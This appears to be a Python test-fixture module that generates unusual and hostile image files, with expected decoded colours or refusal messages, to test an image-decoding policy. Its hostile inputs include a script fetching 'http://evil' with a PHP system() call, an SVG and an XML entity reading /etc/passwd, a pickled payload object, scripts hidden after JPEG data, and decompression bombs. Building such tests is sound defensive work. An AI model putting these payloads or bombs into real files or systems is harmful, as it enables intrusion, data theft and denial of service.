"""Pictures of odd and hostile kinds, each with what is to be seen of it, or why it is refused.

The policy is that of graftwork.data.images.decoding.
"""

from __future__ import annotations

import base64
import io
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import numpy as np
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from attacks.attack import COMMAND, Payload

WIDTH, HEIGHT = 48, 32
RGB = (200, 120, 40)
Colour = tuple[int, int, int]
GREY = (119,) * 3


@dataclass(frozen=True)
class Picture:
    """A file, its name's ending, and its middle pixel as training sees it, or the refusal."""

    name: str
    make: Callable[[], bytes]
    seen: Colour | str  # a regular expression, where it is refused
    size: tuple[int, int] = (WIDTH, HEIGHT)  # upright
    suffix: str = ".jpg"


def encoded(image: Image.Image | np.ndarray, kind: str = "PNG", **options: Any) -> bytes:
    out = io.BytesIO()
    image = image if isinstance(image, Image.Image) else Image.fromarray(image)
    image.save(out, kind, **options)
    return out.getvalue()


def plain(mode: str = "RGB", colour: Any = RGB) -> Image.Image:
    return Image.new(mode, (WIDTH, HEIGHT), colour)


def noise() -> np.ndarray:
    return np.random.default_rng(0).integers(0, 256, (HEIGHT, WIDTH, 3), dtype=np.uint8)


def turned(orientation: int) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = orientation
    return encoded(plain(), "JPEG", exif=exif, quality=95)


def with_text(**texts: str) -> bytes:
    info = PngInfo()
    for key, text in texts.items():
        info.add_text(key, text)
    return encoded(plain(), pnginfo=info)


def chunk(kind: bytes, content: bytes) -> bytes:
    return (
        struct.pack(">I", len(content))
        + kind
        + content
        + struct.pack(">I", zlib.crc32(kind + content))
    )


def png(width: int, height: int, depth: int, colour: int, rows: bytes, *before: bytes) -> bytes:
    """Chunk by chunk: what it says of itself need not be so."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    data = chunk(b"IDAT", zlib.compress(rows, 9))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(before) + data + chunk(b"IEND", b"")


def zeros(pixels_a_side: int, depth: int = 1, channels: int = 1, colour: int = 0) -> bytes:
    """A square black PNG of which a kB is a Mpx or more."""
    row = 1 + (pixels_a_side * depth * channels + 7) // 8
    packer, out = zlib.compressobj(9), []
    for _ in range(pixels_a_side):
        out.append(packer.compress(bytes(row)))
    head = chunk(
        b"IHDR", struct.pack(">IIBBBBB", pixels_a_side, pixels_a_side, depth, colour, 0, 0, 0)
    )
    data = chunk(b"IDAT", b"".join(out) + packer.flush())
    return b"\x89PNG\r\n\x1a\n" + head + data + chunk(b"IEND", b"")


def gif_of(frames: int) -> bytes:
    first = encoded(plain().quantize(2), "GIF")
    start = first.index(b",", 13 + 3 * 2 ** ((first[10] & 7) + 1))
    return first[:start] + first[start:-1] * frames + b";"


def tiff(*entries: tuple[int, int, int, int], after: int = 0) -> bytes:
    """A directory of (tag, type, count, value); `after` is where the next lies."""
    packed = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0\x08\0\0\0" + struct.pack("<H", len(entries)) + packed + struct.pack("<I", after)


def grey_tiff(**changes: int) -> bytes:
    """One strip; changes: `strip` (its place), `bytes` (its length), `width`, `height`, `after`."""
    end = 8 + 2 + 12 * 8 + 4
    width, height = changes.get("width", WIDTH), changes.get("height", HEIGHT)
    entries = (
        (256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
        (273, 4, 1, changes.get("strip", end)), (278, 4, 1, height),
        (279, 4, 1, changes.get("bytes", WIDTH * HEIGHT)),
    )  # fmt: skip
    return tiff(*entries, after=changes.get("after", 0)) + bytes([119]) * (WIDTH * HEIGHT)


def clear() -> Image.Image:
    return plain("RGBA", (*RGB, 0))


def ramp(dtype: str, low: float, high: float) -> np.ndarray:
    """Its middle lies halfway."""
    values = np.linspace(low, high, WIDTH - 1)
    return np.repeat(np.append(values, high)[None], HEIGHT, axis=0).astype(dtype)


def of_scans(number: int) -> bytes:
    """A JPEG of 16 Mpx whose last scan, of some twenty bytes, comes again and again."""
    content = jpeg(Image.new("L", (4000, 4000), 119), progressive=True)
    last = content[content.rindex(b"\xff\xda") : -2]
    return content[:-2] + last * number + content[-2:]


def damaged(content: bytes, at: float, by: bytes = b"\0" * 40) -> bytes:
    start = int(len(content) * at)
    return content[:start] + by + content[start + len(by) :]


def jpeg(image: Image.Image | np.ndarray | None = None, **options: Any) -> bytes:
    return encoded(plain() if image is None else image, "JPEG", **{"quality": 95, **options})


SCRIPT = f"<script>fetch('http://evil')</script><?php system('{COMMAND}'); ?>"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="file:///etc/passwd"/>{SCRIPT}</svg>'
NO_IMAGE = "not an image of a known format"
AVIF_BOX = b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf"
ODD = [
    # what is right, if rare
    Picture(
        "16 bits of grey", lambda: encoded(np.full((HEIGHT, WIDTH), 119 * 257, np.uint16)), GREY
    ),
    Picture(
        "16 bits, big-endian",
        lambda: encoded(np.full((HEIGHT, WIDTH), 119 * 257, ">u2"), "TIFF"),
        GREY,
    ),
    Picture("floats", lambda: encoded(ramp("float32", -2, 6), "TIFF"), (130,) * 3),
    Picture("32 bits", lambda: encoded(ramp("int32", -(10**6), 10**6), "TIFF"), (130,) * 3),
    Picture("CMYK", lambda: encoded(plain("CMYK", (0, 255, 255, 0)), "TIFF"), (255, 0, 0)),
    Picture("CMYK as JPEG", lambda: jpeg(plain("CMYK", (0, 255, 255, 0))), (254, 0, 0)),
    Picture("black as CMYK", lambda: jpeg(plain("CMYK", (0, 0, 0, 255))), (0, 0, 0)),
    Picture("palette", lambda: encoded(plain().quantize(4)), RGB),
    Picture(
        "palette with a clear colour", lambda: encoded(plain("P", 0), transparency=0), (255,) * 3
    ),
    Picture("grey and alpha", lambda: encoded(plain("LA", (119, 255))), GREY),
    Picture("grey, quite clear", lambda: encoded(plain("LA", (119, 0))), (255,) * 3),
    Picture("one bit", lambda: encoded(plain("1", 1)), (255,) * 3),
    Picture("grey", lambda: jpeg(plain("L", 119)), GREY),
    Picture("alpha 0 over a colour", lambda: encoded(clear()), (255,) * 3),
    Picture("alpha 0 in WebP", lambda: encoded(clear(), "WEBP", lossless=True), (255,) * 3),
    Picture("Lab", lambda: encoded(plain("LAB", (128, 128, 128)), "TIFF"), GREY),
    Picture("progressive", lambda: jpeg(progressive=True), (200, 120, 40)),
    Picture("JPEG 2000", lambda: encoded(plain(), "JPEG2000"), RGB),
    Picture("AVIF", lambda: encoded(plain(), "AVIF", quality=100, subsampling="4:4:4"), RGB),
    Picture("PPM", lambda: encoded(plain(), "PPM"), RGB),
    Picture("BMP", lambda: encoded(plain(), "BMP"), RGB),
    Picture(
        "two views", lambda: encoded(plain(), "MPO", save_all=True, append_images=[plain()]), RGB
    ),
    Picture("upright", lambda: turned(1), RGB),
    Picture("upside down", lambda: turned(3), RGB),
    Picture("on its side", lambda: turned(6), RGB, (HEIGHT, WIDTH)),
    Picture("mirrored on its side", lambda: turned(5), RGB, (HEIGHT, WIDTH)),
    Picture("an orientation that is none", lambda: turned(77), RGB),
    Picture("one pixel", lambda: encoded(Image.new("RGB", (1, 1), RGB)), RGB, (1, 1)),
    Picture("one pixel high", lambda: encoded(Image.new("RGB", (5000, 1), RGB)), RGB, (5000, 1)),
    Picture("a PNG by name", lambda: encoded(plain()), RGB, suffix=".jpeg"),
    Picture("a JPEG by name", jpeg, RGB, suffix=".png"),
    # animated
    Picture(
        "animated GIF",
        lambda: encoded(plain(), "GIF", save_all=True, append_images=[plain("RGB", "blue")]),
        RGB,
    ),
    Picture(
        "animated WebP",
        lambda: encoded(
            plain(), "WEBP", save_all=True, append_images=[plain("RGB", "blue")], lossless=True
        ),
        RGB,
    ),
    Picture(
        "animated PNG",
        lambda: encoded(plain(), "PNG", save_all=True, append_images=[plain("RGB", "blue")]),
        RGB,
    ),
    Picture(
        "pages of a TIFF",
        lambda: encoded(plain(), "TIFF", save_all=True, append_images=[plain("RGB", "blue")]),
        RGB,
    ),
    Picture("a GIF of five thousand frames", lambda: gif_of(5000), RGB),
    # what travels along
    Picture("garbage for EXIF", lambda: jpeg(exif=b"Exif\0\0II*\0\xff\xff\xff\xff"), RGB),
    Picture("EXIF that ends at once", lambda: jpeg(exif=b"Exif\0\0"), RGB),
    Picture(
        "EXIF that leads to itself",
        lambda: jpeg(exif=b"Exif\0\0" + tiff((0x8769, 4, 1, 8), after=8)),
        RGB,
    ),
    Picture("garbage for a profile", lambda: encoded(plain(), icc_profile=b"\0" * 3000), RGB),
    Picture("a profile of 60 kB", lambda: jpeg(icc_profile=bytes(60_000)), RGB),
    Picture(
        "EXIF in text", lambda: with_text(**{"Raw profile type exif": "\nexif\n4\nno hex"}), RGB
    ),
    Picture("a script as comment", lambda: jpeg(comment=SCRIPT.encode()), RGB),
    Picture(
        "XMP with a DTD",
        lambda: with_text(
            **{
                "XML:com.adobe.xmp": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
            }
        ),
        RGB,
    ),
    Picture(
        "a pickle as text",
        lambda: with_text(pickle=base64.b64encode(__import__("pickle").dumps(Payload())).decode()),
        RGB,
    ),
    Picture("a zip behind it", lambda: jpeg() + b"PK\x03\x04" + bytes(200), RGB),
    Picture("a script behind it", lambda: jpeg() + SCRIPT.encode(), RGB),
    Picture(
        "text of 16 MiB in 16 kB",
        lambda: png(
            WIDTH,
            HEIGHT,
            8,
            0,
            (b"\0" + b"w" * WIDTH) * HEIGHT,
            chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(2**24))),
        ),
        "too large|decompress",
    ),
    # no pictures
    Picture("empty", lambda: b"", "empty file"),
    Picture("one byte", lambda: b"\xff", NO_IMAGE),
    Picture("a web page", lambda: b"\n<!DOCTYPE html><html>404", "a web page"),
    Picture("a script", lambda: SCRIPT.encode(), NO_IMAGE),
    Picture("SVG", SVG.encode, NO_IMAGE),
    Picture(
        "a pointer of Git LFS",
        lambda: b"version https://git-lfs.github.com/spec/v1\n",
        "git lfs pull",
    ),
    Picture("a shell", lambda: b"#!/bin/sh\n" + COMMAND.encode(), NO_IMAGE),
    Picture("a pickle", lambda: __import__("pickle").dumps(Payload()), NO_IMAGE),
    Picture("EPS", lambda: encoded(plain(), "EPS"), NO_IMAGE),
    Picture("PDF", lambda: encoded(plain(), "PDF"), NO_IMAGE),
    Picture("an icon", lambda: encoded(plain(), "ICO"), NO_IMAGE),
    Picture("a program of MS Windows", lambda: b"MZ" + bytes(500), NO_IMAGE),
    Picture("a movie of a telephone", lambda: b"\0\0\0\x18ftypmp42" + bytes(200), NO_IMAGE),
    # damaged
    Picture("half a JPEG", lambda: (c := jpeg(noise()))[: len(c) // 2], "truncated"),
    Picture("all but a byte", lambda: jpeg(noise())[:-1], "truncated"),
    Picture("a header alone", lambda: jpeg(noise())[:200], ""),
    Picture("half a PNG", lambda: (c := encoded(noise()))[: len(c) // 2], "truncated"),
    Picture("half a WebP", lambda: (c := encoded(noise(), "WEBP"))[: len(c) // 2], ""),
    Picture(
        "half a GIF",
        lambda: (c := encoded(Image.fromarray(noise()), "GIF"))[: len(c) // 2],
        "truncated",
    ),
    Picture("a rotten PNG", lambda: damaged(encoded(noise()), 0.4), ""),
    Picture("a rotten HEIC", lambda: b"\0\0\0\x18ftypheic" + bytes(99), ""),
    Picture("a rotten AVIF", lambda: AVIF_BOX + bytes(300), ""),
    Picture("a wrong checksum", lambda: encoded(plain()).replace(b"IDAT", b"IDAU", 1), ""),
    Picture("no pixels", lambda: png(0, 0, 8, 0, b""), ""),
    Picture(
        "floats that are none",
        lambda: encoded(np.full((HEIGHT, WIDTH), np.nan, np.float32), "TIFF"),
        "not finite",
    ),
    Picture(
        "fewer rows than it says", lambda: png(WIDTH, HEIGHT, 8, 0, bytes(1 + WIDTH)), (0, 0, 0)
    ),
    Picture("a TIFF", grey_tiff, GREY),
    Picture("a strip behind the end", lambda: grey_tiff(strip=2**31), ""),
    Picture("a strip of 4 GiB", lambda: grey_tiff(strip=2**32 - 1, bytes=2**32 - 1), ""),
    Picture("a strip of no bytes", lambda: grey_tiff(bytes=0), GREY),
    Picture("directories in a ring", lambda: grey_tiff(after=8), GREY),
    Picture("a TIFF of nothing", lambda: tiff(), ""),
    # bombs
    Picture("400 Mpx in 50 kB", lambda: zeros(20_000), "400000000|20000 x 20000|bomb"),
    Picture("a JPEG of two thousand scans", lambda: of_scans(2000), "scans .* a bomb"),
    Picture(
        "a side of 2^31",
        lambda: png(2**31 - 1, 1, 1, 0, b"\0"),
        "more than max_pixels|bomb|exceeds",
    ),
    Picture(
        "a GIF of 65535 px",
        lambda: b"GIF89a\xff\xff\xff\xff\0\0\0,\0\0\0\0\xff\xff\xff\xff\0\x02\x02D\x01\0;",
        "more than max_pixels|bomb",
    ),
    Picture(
        "a TIFF of 2^32 px",
        lambda: grey_tiff(width=2**16, height=2**16),
        "more than max_pixels|bomb",
    ),
]


def bombs(side: int) -> list[Picture]:
    """Black or clear squares that are to be seen, in the memory that a picture of that size needs.

    At a side of 10,000 (100 Mpx) they take 12, 194 and 389 kB.
    """
    size = side, side
    return [
        Picture("one bit a pixel", lambda: zeros(side), (0, 0, 0), size),
        Picture("16 bits", lambda: zeros(side, depth=16), (0, 0, 0), size),
        Picture("clear", lambda: zeros(side, 8, 4, colour=6), (255,) * 3, size),
    ]
